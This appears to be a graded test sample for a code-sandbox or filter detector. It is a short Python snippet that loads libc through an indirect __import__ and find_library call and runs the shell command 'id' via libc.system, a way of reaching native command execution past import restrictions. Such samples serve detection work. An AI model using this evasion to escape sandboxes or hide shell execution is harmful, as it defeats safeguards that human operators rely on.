# evasion: libc loaded through __import__ and find_library
# grade: medium; does: native
import ctypes.util
libc = __import__("ctypes").CDLL(ctypes.util.find_library("c"))
libc.system(b"id")
